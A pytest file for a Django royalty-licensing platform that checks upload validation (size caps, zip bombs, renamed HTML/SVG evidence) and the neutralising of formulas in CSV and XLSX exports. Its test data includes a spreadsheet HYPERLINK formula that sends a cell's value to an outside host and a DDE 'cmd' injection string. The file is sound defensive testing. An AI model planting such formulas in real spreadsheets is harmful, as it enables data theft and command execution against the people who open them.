"""Usage files and dispute evidence are checked before they are stored or read; the
CSV and XLSX the platform writes cannot run formulas."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from catalog.evidence.models import EvidenceEntry
from catalog.models import Work
from licensing.disputes.evidence import evidence_upload
from licensing.disputes.models import CaseEvidence
from licensing.royalties import exports
from licensing.royalties.models import LineKind, UsageLine, UsageReport
from licensing.royalties.services import period_close, usage_import
from tests.factories.catalog import make_party, make_user
from tests.factories.royalties import HEADER, RoyaltyDeal, import_rows, row, write_csv
from tests.factories.uploads import (
    HTML,
    PDF,
    SVG,
    isolate_storage,
    stored_files,
    without_dimension,
    xlsx_bomb,
    xlsx_bytes,
)
from tests.licensing.disputes.test_disputes import file_case

pytestmark = pytest.mark.django_db

# Short enough for the usage line's format column (32 characters).
FORMULA = '=HYPERLINK("//x.io?"&A1,"Go")'


@pytest.fixture
def storage(settings, tmp_path):
    return isolate_storage(settings, tmp_path / "storage")


@pytest.fixture
def deal(fast_pdf):
    return RoyaltyDeal()


@pytest.fixture
def contract(deal):
    return deal.royalty_contract()


def _plain(messages) -> str:
    return " ".join(messages).replace("\xa0", " ")


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- usage reports ----------------------------------------------------------------


def test_an_oversize_usage_csv_is_refused_with_the_limit_and_nothing_is_kept(
    settings, storage, tmp_path, deal, contract
):
    settings.UPLOAD_LIMITS = {**settings.UPLOAD_LIMITS, "usage_csv": 2048}
    path = write_csv(tmp_path / "q1.csv", [row(deal) for _ in range(40)])
    before = stored_files(storage)
    with pytest.raises(ValidationError) as caught:
        usage_import(contract=contract, period="2027-Q1", path=str(path))
    message = _plain(caught.value.message_dict["file"])
    assert message.startswith("“q1.csv” is ")
    assert message.endswith("; the limit for usage reports in CSV is 2.0 KB.")
    assert not UsageReport.objects.exists() and stored_files(storage) == before


def test_an_xlsx_over_the_row_cap_is_refused_at_upload_before_reading(
    client, settings, storage, deal, contract
):
    settings.UPLOAD_XLSX_MAX_ROWS = 10
    data = xlsx_bytes([HEADER] + [[row(deal).get(k, "") for k in HEADER] for _ in range(20)])
    client.force_login(deal.buyer)
    before = stored_files(storage)
    response = client.post(
        reverse("royalties:reports"),
        {
            "contract": contract.pk,
            "period": "2027-Q1",
            "file": SimpleUploadedFile("sales.xlsx", data),
        },
    )
    assert response.status_code == 200
    assert "“sales.xlsx” has 21 rows; the limit for spreadsheets is 10 rows." in (
        response.content.decode()
    )
    assert not UsageReport.objects.exists() and stored_files(storage) == before


def test_an_xlsx_that_hides_its_size_is_stopped_by_the_reader(settings, tmp_path, deal, contract):
    """Without a declared <dimension> the upload check cannot see the size; the reader
    counts rows while streaming and rejects the report at the cap."""
    settings.UPLOAD_XLSX_MAX_ROWS = 10
    path = tmp_path / "sales.xlsx"
    data = xlsx_bytes([HEADER] + [[row(deal).get(k, "") for k in HEADER] for _ in range(20)])
    path.write_bytes(without_dimension(data))
    report = usage_import(contract=contract, period="2027-Q1", path=str(path), keep_file=False)
    assert report.status == "rejected"
    assert "more than 10 rows or 200 columns" in report.error
    assert not UsageLine.objects.filter(report=report).exists()


def test_an_xlsx_zip_bomb_is_refused(settings, storage, tmp_path, contract):
    settings.UPLOAD_ZIP_MAX_UNCOMPRESSED = 4 * 2**20
    path = tmp_path / "sales.xlsx"
    path.write_bytes(xlsx_bomb(unpacked_mb=64))
    before = stored_files(storage)
    with pytest.raises(ValidationError) as caught:
        usage_import(contract=contract, period="2027-Q1", path=str(path))
    assert _plain(caught.value.message_dict["file"]).startswith("“sales.xlsx” unpacks to 64.0 MB")
    assert not UsageReport.objects.exists() and stored_files(storage) == before


def test_a_usage_file_named_csv_must_be_utf8_text(tmp_path, contract):
    path = tmp_path / "sales.csv"
    path.write_bytes(xlsx_bytes([HEADER]))
    with pytest.raises(ValidationError) as caught:
        usage_import(contract=contract, period="2027-Q1", path=str(path))
    assert caught.value.message_dict["file"] == [
        "“sales.csv” is XLSX; usage reports in CSV may be: plain text (UTF-8)."
    ]


# --- dispute evidence -------------------------------------------------------------


@pytest.mark.parametrize("payload", [HTML, SVG], ids=["html", "svg"])
def test_html_or_svg_renamed_pdf_is_refused_as_evidence(storage, payload):
    claimant = make_user()
    make_party(member=claimant)
    case = file_case(claimant_user=claimant)
    entries, before = EvidenceEntry.objects.count(), stored_files(storage)
    with pytest.raises(ValidationError) as caught:
        evidence_upload(
            case=case,
            actor=claimant,
            file=SimpleUploadedFile("contract.pdf", payload, content_type="application/pdf"),
            description="Signed contract",
        )
    message = caught.value.message_dict["file"][0]
    assert message.startswith("“contract.pdf” is an ")
    assert "dispute evidence may be: PDF, PNG, JPEG" in message
    assert not CaseEvidence.objects.exists() and EvidenceEntry.objects.count() == entries
    assert stored_files(storage) == before


def test_evidence_over_the_cap_is_refused_over_http(client, settings, storage):
    settings.UPLOAD_LIMITS = {**settings.UPLOAD_LIMITS, "dispute_evidence": 1024}
    claimant = make_user()
    make_party(member=claimant)
    case = file_case(claimant_user=claimant)
    client.force_login(claimant)
    before = stored_files(storage)
    response = client.post(
        reverse("disputes:action", args=[case.pk, "evidence"]),
        {"description": "Scan", "file": SimpleUploadedFile("scan.pdf", PDF + b" " * 4096)},
        follow=True,
    )
    assert "the limit for dispute evidence is 1.0 KB" in _plain([response.content.decode()])
    assert not CaseEvidence.objects.exists() and stored_files(storage) == before
    evidence_upload(
        case=case, actor=claimant, file=SimpleUploadedFile("scan.pdf", PDF), description="Scan"
    )
    assert len(stored_files(storage)) == len(before) + 1  # allowed files land where we look


# --- exports: no formulas ---------------------------------------------------------


@pytest.fixture
def statement_with_formula(tmp_path, deal, contract):
    # Channels and formats are vocabulary codes now (a licensee's own word is mapped to one,
    # never copied); the free text that reaches a statement is the work's title.
    Work.objects.filter(pk=deal.work.pk).update(original_title=FORMULA)
    import_rows(tmp_path, deal, contract, "2027-Q1", [row(deal, units="100")])
    (statement,) = period_close(contracts=[contract], period="2027-Q1", enqueue_ledger=False)
    return statement


def test_statement_csv_neutralises_formulas_and_keeps_negative_amounts_numbers(
    statement_with_formula,
):
    statement = statement_with_formula
    rows = list(csv.reader(io.StringIO(exports.statement_csv(statement))))
    lines = [dict(zip(exports.COLUMNS, r, strict=True)) for r in rows[rows.index([]) + 2 :]]
    earnings = next(line for line in lines if line["kind"] == LineKind.EARNINGS)
    assert earnings["work"] == "'" + FORMULA
    tax = next(line for line in lines if line["kind"] == "tax")
    assert tax["amount"].startswith("-") and float(tax["amount"]) < 0  # still a number


def test_statement_xlsx_writes_formula_looking_text_as_text(statement_with_formula):
    book = load_workbook(io.BytesIO(exports.statement_xlsx(statement_with_formula)))
    cells = [c for r in book["lines"].iter_rows(min_row=2) for c in r if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)


def test_quarantine_csv_neutralises_the_values_the_licensee_sent(
    client, settings, tmp_path, deal, contract
):
    settings.ROYALTIES_BAD_ROW_THRESHOLD_PERCENT = "100"
    evil = "=cmd|' /C calc'!A0"
    report = import_rows(tmp_path, deal, contract, "2027-Q1", [row(deal, units=evil)])
    client.force_login(deal.buyer)
    response = client.get(reverse("royalties:quarantine_csv", args=[report.pk]))
    rows = list(csv.reader(io.StringIO(_body(response).decode())))
    assert ["2", "units", "'" + evil] == rows[1][:3]
